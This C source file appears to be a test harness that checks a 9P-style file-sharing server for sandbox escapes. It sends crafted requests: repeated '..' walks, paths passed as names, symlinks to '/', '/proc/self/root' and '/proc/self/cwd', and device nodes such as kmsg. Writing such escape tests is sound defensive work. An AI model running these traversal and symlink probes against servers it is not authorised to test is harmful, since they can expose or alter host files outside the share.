#include "attacks.h"
#include "report.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>

enum { PATH_BYTES = 512 };

int walk(const struct target* target, uint64_t from, const char* path, uint64_t* node) {
  char copy[PATH_BYTES];
  snprintf(copy, sizeof copy, "%s", path);
  *node = from;
  for (char *rest = copy, *name; (name = strsep(&rest, "/"));) {
    struct answer answer;
    if (*name == '\0') continue;
    const struct request request = {.operation = WALK, .node = *node, .name = name};
    const int error = ask(target->protocol, &request, &answer);
    if (error) return error;
    *node = answer.node;
  }
  return 0;
}

int read_node(const struct target* target, uint64_t node, struct answer* answer) {
  const struct request opening = {.operation = OPEN, .node = node, .number = O_RDONLY};
  const int error = ask(target->protocol, &opening, answer);
  if (error) return error;
  const struct request reading = {.operation = READ, .node = node, .handle = answer->handle};
  return ask(target->protocol, &reading, answer);
}

static void report_read(const char* attack, int error, const struct answer* answer) {
  if (error)
    report(attack, "error %d", error);
  else
    report(attack, "read %zu %.*s", answer->size, (int)strcspn(answer->data, "\n"), answer->data);
}

void reach(const struct target* target, const char* attack, uint64_t from, const char* path) {
  uint64_t node;
  struct answer answer = {0};
  int error = walk(target, from, path, &node);
  if (!error) error = read_node(target, node, &answer);
  report_read(attack, error, &answer);
}

static void report_done(const struct target* target, const char* attack, const struct request* request) {
  struct answer answer;
  const int error = ask(target->protocol, request, &answer);
  if (error)
    report(attack, "error %d", error);
  else
    report(attack, "done");
}

/* From a folder above the share, by what may be mounted there: the host's path itself, and the root of one of
 * its processes, which is a link of the kernel's that leads through all mount namespaces. */
static void reach_outside(const struct target* target, const char* attack, uint64_t from) {
  char path[PATH_BYTES], name[PATH_BYTES];
  snprintf(path, sizeof path, "%s/outside", target->outside);
  reach(target, attack, from, path);
  snprintf(path, sizeof path, "%s%s/outside", target->process_root, target->outside);
  snprintf(name, sizeof name, "%s, by %s", attack, target->process_root);
  reach(target, name, from, path);
}

static void walk_up(const struct target* target) {
  uint64_t node = target->folder;
  for (int up = 1; up <= target->depth + 6; ++up) {
    char name[64];
    snprintf(name, sizeof name, "%d times ..", up);
    const int error = walk(target, node, "..", &node);
    if (error) {
      report(name, "error %d", error);
      return;
    }
    reach_outside(target, name, node);
  }
}

/* Every request that takes a name, with one that is a path. */
static void use_path_as_name(const struct target* target, const char* path) {
  const uint64_t folder = target->folder;
  uint64_t inside;
  char attack[PATH_BYTES];
  if (walk(target, folder, "inside", &inside)) give_up("file inside");
  const struct {
    const char* what;
    struct request request;
  } tries[] = {
      {"mkdir", {.operation = MKDIR, .node = folder, .name = path}},
      {"symlink", {.operation = SYMLINK, .node = folder, .name = path, .text = "x"}},
      {"mknod", {.operation = MKNOD, .node = folder, .name = path, .number = S_IFREG | 0644}},
      {"link", {.operation = LINK, .node = folder, .name = path, .other = inside}},
      {"rename to", {.operation = RENAME, .node = folder, .name = "spare", .other = folder, .text = path}},
      {"rename from", {.operation = RENAME, .node = folder, .name = path, .other = folder, .text = "caught"}},
      {"unlink", {.operation = UNLINK, .node = folder, .name = path}}};
  for (size_t i = 0; i < sizeof tries / sizeof *tries; ++i) {
    snprintf(attack, sizeof attack, "%s %s", tries[i].what, path);
    report_done(target, attack, &tries[i].request);
  }
}

static void look_up_path(const struct target* target, const char* path) {
  char attack[PATH_BYTES];
  struct answer answer;
  const struct request request = {.operation = WALK, .node = target->folder, .name = path};
  int error = ask(target->protocol, &request, &answer);
  if (!error) error = read_node(target, answer.node, &answer);
  snprintf(attack, sizeof attack, "look up %s", path);
  report_read(attack, error, &answer);
}

void attack_by_names(const struct target* target) {
  char path[PATH_BYTES], above[64] = "";
  for (int up = 0; up < target->depth + 2; ++up)
    strcat(above, "../");
  walk_up(target);
  snprintf(path, sizeof path, "%s/outside", target->outside);
  look_up_path(target, path);
  use_path_as_name(target, path);
  for (const char* const* way = (const char* const[]){"", target->process_root + 1, NULL}; *way; ++way) {
    snprintf(path, sizeof path, "%s%s%s/outside", above, *way, target->outside);
    look_up_path(target, path);
    use_path_as_name(target, path);
  }
  look_up_path(target, "folder/inside");
  use_path_as_name(target, "..");
  reach(target, "a node that the server never named", 0x7fffff, target->outside);
  if (target->protocol != &ninep) return;
  struct answer answer;
  const struct request attach = {.operation = ATTACH, .name = target->outside};
  const int error = ask(target->protocol, &attach, &answer);
  if (error)
    report("attach to another folder", "error %d", error);
  else
    reach(target, "attach to another folder", answer.node, "outside");
}

static void use_link(const struct target* target, const char* name, const char* text) {
  char attack[PATH_BYTES], path[PATH_BYTES];
  uint64_t node;
  struct answer answer = {0};
  const struct request making = {.operation = SYMLINK, .node = target->folder, .name = name, .text = text};
  snprintf(attack, sizeof attack, "make link %s", text);
  report_done(target, attack, &making);
  snprintf(attack, sizeof attack, "walk through link %s", text);
  snprintf(path, sizeof path, "%s/outside", name);
  reach(target, attack, target->folder, path);
  snprintf(path, sizeof path, "%s%s", name, target->outside);
  snprintf(attack, sizeof attack, "walk far through link %s", text);
  reach(target, attack, target->folder, path);
  if (walk(target, target->folder, name, &node)) return;
  snprintf(attack, sizeof attack, "open link %s", text);
  report_read(attack, read_node(target, node, &answer), &answer);
  const struct request tries[] = {
      {.operation = TRUNCATE, .node = node},
      {.operation = CHMOD, .node = node, .number = 0777},
      {.operation = MKNOD, .node = node, .name = "made", .number = S_IFREG | 0644},
      {.operation = UNLINK, .node = node, .name = "outside"}};
  const char* const words[] = {"truncate", "chmod", "make below", "unlink below"};
  for (size_t i = 0; i < sizeof tries / sizeof *tries; ++i) {
    snprintf(attack, sizeof attack, "%s link %s", words[i], text);
    report_done(target, attack, &tries[i]);
  }
}

void attack_by_links(const struct target* target) {
  char file[PATH_BYTES], magic[PATH_BYTES], magic_file[PATH_BYTES + 8];
  snprintf(file, sizeof file, "%s/outside", target->outside);
  snprintf(magic, sizeof magic, "%s%s", target->process_root, target->outside);
  snprintf(magic_file, sizeof magic_file, "%s/inside", magic);
  use_link(target, "absolute-folder", target->outside);
  use_link(target, "absolute-file", file);
  use_link(target, "root", "/");
  use_link(target, "own-root", "/proc/self/root");
  use_link(target, "process-root", magic);
  use_link(target, "process-file", magic_file);
  use_link(target, "own-folder", "/proc/self/cwd");
  use_link(target, "up", "../../../../../../../..");
}

/* Node `made` is made here; `placed`, of the same device, was there before. */
void attack_by_devices(const struct target* target) {
  const struct request block = {.operation = MKNOD,
                                .node = target->folder,
                                .name = "made",
                                .number = S_IFBLK | 0666,
                                .major = target->major,
                                .minor = target->minor};
  report_done(target, "make block device", &block);
  reach(target, "open block device", target->folder, "made");
  reach(target, "open placed block device", target->folder, "placed");
  const struct request memory = {.operation = MKNOD,
                                 .node = target->folder,
                                 .name = "kmsg",
                                 .number = S_IFCHR | 0666,
                                 .major = 1,
                                 .minor = 11};
  report_done(target, "make character device", &memory);
  reach(target, "open character device", target->folder, "kmsg");
  const struct request pipe = {
      .operation = MKNOD, .node = target->folder, .name = "pipe", .number = S_IFIFO | 0666};
  report_done(target, "make pipe", &pipe);
  reach(target, "open pipe", target->folder, "pipe");
  reach(target, "open placed pipe", target->folder, "placed-pipe");
}
